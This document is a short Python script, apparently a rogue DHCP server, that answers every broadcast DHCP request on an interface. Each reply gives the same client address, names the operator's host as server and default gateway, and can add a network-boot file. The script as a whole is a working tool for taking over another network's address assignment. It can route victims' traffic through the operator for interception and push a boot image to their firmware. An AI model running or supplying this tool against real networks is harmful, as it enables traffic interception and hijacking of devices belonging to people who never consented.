"""Another site's DHCP server: `python rogue.py INTERFACE SERVER CLIENT [BOOT_FILE CLASS]` gives everybody the one
address, and perhaps half of what firmware wants to know."""

from __future__ import annotations

import socket
import sys


def reply(query: bytes, server: bytes, client: bytes, boot_file: bytes, vendor_class: bytes) -> bytes:
    kind = query[query.index(b"\x35\x01") + 2]
    options = [(53, b"\2" if kind == 1 else b"\5"), (54, server), (51, b"\0\0\1\0"), (1, b"\xff\xff\xff\0")]
    options.append((3, server))
    options += [(60, vendor_class)] if vendor_class else []
    told = b"".join(bytes((code, len(value))) + value for code, value in options)
    head = b"\2" + query[1:16] + client + bytes(4) + query[24:44] + bytes(64) + boot_file.ljust(128, b"\0")
    return head + query[236:240] + told + b"\xff"


def serve(interface: str, server: str, client: str, boot_file: str = "", vendor_class: str = "") -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
        sock.bind(("", 67))
        while True:
            query = sock.recv(2000)
            if query[:1] == b"\1" and query[240:242] == b"\x35\x01":
                addresses = socket.inet_aton(server), socket.inet_aton(client)
                answer = reply(query, *addresses, boot_file.encode(), vendor_class.encode())
                sock.sendto(answer, ("255.255.255.255", 68))


if __name__ == "__main__":
    serve(*sys.argv[1:])
